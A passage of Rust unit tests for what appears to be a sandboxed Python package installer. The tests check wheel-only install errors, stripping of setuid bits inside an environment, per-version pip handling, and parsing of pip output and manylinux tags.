        let m = EnvManager::new(t.join("data"), None);
        let env = env_at(&t.join("env"), EnvKind::Venv, None);
        let fake = Arc::new(Recorder::default());
        *fake.fetch_answer.lock().unwrap() = Some(
            r#"{"ok": false, "missing": [{"requirement": "PyYAML==5.3.1", "wheel_versions": "5.4, 6.0", "versions": "6.0, 5.4, 5.3.1"}, {"requirement": "nope-xyz", "wheel_versions": "none", "versions": null}]}"#.into(),
        );
        let specs = ["PyYAML==5.3.1".to_string(), "nope-xyz".to_string()];
        let err = m
            .install(
                fake.clone(),
                install(&env, &specs, InstallCaps::default()),
                None,
            )
            .await
            .unwrap_err()
            .to_string();
        assert_eq!(fake.jobs().len(), 1, "no install phase");
        for part in [
            "`PyYAML==5.3.1`: no version with a wheel matches",
            "all versions: 6.0, 5.4, 5.3.1",
            "`nope-xyz`: no such package",
            "Python 3.11",
            "source builds (sdists) are not run",
            "build code with network access",
        ] {
            assert!(err.contains(part), "{part:?} not in {err}");
        }
    }

    #[test]
    fn setid_bits_are_stripped_below_the_prefix_only() {
        use std::os::unix::fs::PermissionsExt;
        let t = tempdir();
        let root = t.join("env");
        std::fs::create_dir_all(root.join("bin/sub")).unwrap();
        let mode = |p: &Path| std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777;
        let set = |p: &Path, m: u32| {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).unwrap()
        };
        let suid = root.join("bin/suid");
        let sgid = root.join("bin/sub/sgid");
        let plain = root.join("bin/plain");
        let outside = t.join("outside-suid");
        for p in [&suid, &sgid, &plain, &outside] {
            std::fs::write(p, "#!/bin/sh\n").unwrap();
        }
        set(&suid, 0o4755);
        set(&sgid, 0o2711);
        set(&plain, 0o755);
        set(&outside, 0o4755);
        set(&root.join("bin/sub"), 0o2775);
        std::os::unix::fs::symlink(&outside, root.join("bin/link")).unwrap();
        assert_eq!(strip_setid_bits(&root).unwrap(), 3);
        assert_eq!(mode(&suid), 0o755);
        assert_eq!(mode(&sgid), 0o711);
        assert_eq!(mode(&plain), 0o755);
        assert_eq!(mode(&root.join("bin/sub")), 0o775);
        assert_eq!(
            mode(&outside),
            0o4755,
            "a symlink's target outside is not touched"
        );
        assert_eq!(strip_setid_bits(&root).unwrap(), 0);
        std::fs::remove_dir_all(t).ok();
    }

    #[tokio::test]
    async fn a_python_the_image_pip_cannot_run_gets_a_fetched_pip() {
        let t = tempdir();
        let m = EnvManager::new(t.join("data"), None);
        let env = env_at(&t.join("v312"), EnvKind::UvVenv, None);
        let fake = Arc::new(Recorder::default());
        let specs = ["six".to_string()];
        let mut req = install(&env, &specs, InstallCaps::default());
        req.python_version = "3.12.1";
        m.install(fake.clone(), req, None).await.expect("install");
        let jobs = fake.jobs();
        let config = |j: &JobSpec, name: &str| -> serde_json::Value {
            let f = j.files.iter().find(|f| f.path == name).unwrap();
            serde_json::from_slice(&f.contents).unwrap()
        };
        assert_eq!(config(&jobs[0], "fetch.json")["own_pip"], true);
        let wheel = config(&jobs[1], "install.json")["pip_wheel"].clone();
        let wheel = PathBuf::from(wheel.as_str().expect("a pip wheel"));
        let tools = wheel.parent().unwrap();
        assert!(jobs[1].env.sources.contains(&Source::host(tools)));
        assert!(INSTALL_PIP.contains("pip = [cfg['python'], cfg['pip_wheel'] + '/pip']"));

        // 3.11: the image's pip, nothing else mounted.
        let m = EnvManager::new(t.join("data2"), None);
        let fake = Arc::new(Recorder::default());
        m.install(
            fake.clone(),
            install(&env, &specs, InstallCaps::default()),
            None,
        )
        .await
        .unwrap();
        let jobs = fake.jobs();
        assert_eq!(config(&jobs[0], "fetch.json")["own_pip"], false);
        assert!(config(&jobs[1], "install.json")["pip_wheel"].is_null());
        assert_eq!(jobs[1].env.sources.len(), 2, "{:?}", jobs[1].env.sources);
        std::fs::remove_dir_all(t).ok();
    }

    #[test]
    fn answers_and_tags_parse() {
        assert_eq!(
            parse_successfully_installed(
                "Successfully installed certifi-2026.10.18 charset_normalizer-3.5.2 zope.interface-6.0"
            ),
            vec![
                ("certifi".into(), "2026.10.18".into()),
                ("charset_normalizer".into(), "3.5.2".into()),
                ("zope.interface".into(), "6.0".into())
            ]
        );
        assert!(parse_successfully_installed("Requirement already satisfied: six").is_empty());
        let x86 = manylinux_platforms("x86_64");
        assert_eq!(x86.first().unwrap(), "manylinux_2_36_x86_64");
        assert_eq!(x86.len(), 20 + 3);
        assert!(x86.contains(&"manylinux1_x86_64".to_string()));
        let arm = manylinux_platforms("aarch64");
        assert!(arm.contains(&"manylinux2014_aarch64".to_string()));
        assert!(!arm.iter().any(|t| t.starts_with("manylinux1")));
        assert_eq!(major_minor_of("3.11.7").as_deref(), Some("3.11"));
        assert_eq!(major_minor_of("3.13.0rc1").as_deref(), Some("3.13"));
        assert_eq!(major_minor_of("x"), None);
        for (mm, own) in [
            ("3.6", true),
            ("3.7", false),
            ("3.11", false),
            ("3.12", true),
            ("3.13", true),
        ] {
            assert_eq!(needs_own_pip(mm), own, "{mm}");
        }
        assert_eq!(few("1, 2, 3", true), "3, 2, 1");
        let caps = InstallCaps {
            cpus: Some(4.0),
            memory_bytes: Some(1 << 20),
            timeout: None,
        };
        let l = caps.apply(installer_limits());
        assert_eq!((l.cpus, l.memory_bytes), (2.0, 1 << 20));
        assert_eq!(l.timeout, installer_limits().timeout);
    }
}
